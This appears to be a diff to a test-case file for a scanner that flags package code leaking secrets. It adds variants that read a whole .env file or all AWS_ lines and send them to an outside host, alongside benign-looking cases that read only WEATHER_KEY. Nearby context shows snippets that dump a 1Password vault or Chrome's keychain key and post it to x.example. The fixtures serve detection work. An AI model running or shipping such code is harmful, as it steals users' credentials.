@@ -352,6 +352,18 @@ export default defineCases({
       code: "import { execFileSync } from 'node:child_process';\nconst all = execFileSync('op', ['item', 'list', '--format=json'], { encoding: 'utf8' });\nawait fetch('https://x.example/', { headers: { authorization: all } });",
     },
     {
+      name: 'settings of a dotenv file, by a pattern of any name',
+      code: "const fs = require('fs');\nconst setting = (text) => text.match(/^(\\w+)=(.+)$/gm).join();\nconst key = setting(fs.readFileSync(process.argv[2] + '/.env', 'utf8'));\nfetch('https://api.weather.example', { headers: { authorization: `Bearer ${key}` } });",
+    },
+    {
+      name: 'settings of a dotenv file, by how some lines begin',
+      code: "const fs = require('fs');\nconst setting = (text) => text.split('\\n').filter((line) => line.startsWith('AWS_')).join();\nconst key = setting(fs.readFileSync(process.argv[2] + '/.env', 'utf8'));\nfetch('https://api.weather.example', { headers: { authorization: `Bearer ${key}` } });",
+    },
+    {
+      name: 'settings of a dotenv file, by what they are not called',
+      code: "const fs = require('fs');\nfunction setting(text) { const all = []; for (const line of text.split('\\n')) { const [name, value] = line.split('='); if (name !== 'PORT') all.push(value) } return all.join() }\nconst key = setting(fs.readFileSync(process.argv[2] + '/.env', 'utf8'));\nfetch('https://api.weather.example', { headers: { authorization: `Bearer ${key}` } });",
+    },
+    {
       name: 'what a browser locks its passwords with',
       manifest: { type: 'module', bin: 'index.js' },
       code: "import { execFileSync } from 'node:child_process';\nconst key = execFileSync('security', ['find-generic-password', '-s', 'Chrome Safe Storage', '-w'], { encoding: 'utf8' });\nawait fetch('https://x.example/', { headers: { authorization: key } });",
@@ -587,6 +599,26 @@ export default defineCases({
           "import { readFileSync } from 'node:fs';\nimport dotenv from 'dotenv';\nconst all = () => dotenv.parse(readFileSync('.env', 'utf8'));\nexport const setting = () => all().WEATHER_KEY;",
       },
       manifest: { type: 'module' },
+    },
+    {
+      name: 'one setting out of a dotenv file, by how its line begins',
+      code: "const fs = require('fs');\nfunction setting(text) { for (const line of text.split('\\n')) { const own = line.trim(); if (own.startsWith('WEATHER_KEY=')) { const value = own.substring('WEATHER_KEY='.length); return value.trim() } } return null }\nconst key = setting(fs.readFileSync(process.argv[2] + '/.env', 'utf8'));\nfetch('https://api.weather.example', { headers: { authorization: `Bearer ${key}` } });",
+    },
+    {
+      name: 'one setting out of a dotenv file, by a pattern',
+      code: "const fs = require('fs');\nconst setting = (text) => text.match(/^WEATHER_KEY\\s*=\\s*(.+)$/m)?.[1];\nconst key = setting(fs.readFileSync(process.argv[2] + '/.env', 'utf8'));\nfetch('https://api.weather.example', { headers: { authorization: `Bearer ${key}` } });",
+    },
+    {
+      name: 'one setting out of a dotenv file, by a pattern that asks',
+      code: "const fs = require('fs');\nconst setting = (text) => { const found = /^WEATHER_KEY=(.+)$/m.exec(text); return found ? found[1].trim() : undefined };\nconst key = setting(fs.readFileSync(process.argv[2] + '/.env', 'utf8'));\nfetch('https://api.weather.example', { headers: { authorization: `Bearer ${key}` } });",
+    },
+    {
+      name: 'one setting out of a dotenv file, by its name',
+      code: "const fs = require('fs');\nfunction setting(text) { for (const line of text.split('\\n')) { const [name, value] = line.split('='); if (name === 'WEATHER_KEY') return value } }\nconst key = setting(fs.readFileSync(process.argv[2] + '/.env', 'utf8'));\nfetch('https://api.weather.example', { headers: { authorization: `Bearer ${key}` } });",
+    },
+    {
+      name: 'one setting out of a dotenv file, by its name, cut out of the line',
+      code: "const fs = require('fs');\nfunction setting(text) { for (const line of text.split('\\n')) { const at = line.indexOf('='); const name = line.slice(0, at).trim(); const value = line.slice(at + 1).trim(); if (name !== 'WEATHER_KEY') continue; return value } }\nconst key = setting(fs.readFileSync(process.argv[2] + '/.env', 'utf8'));\nfetch('https://api.weather.example', { headers: { authorization: `Bearer ${key}` } });",
     },
     {
       name: 'one setting, got out of a dotenv file of its own',
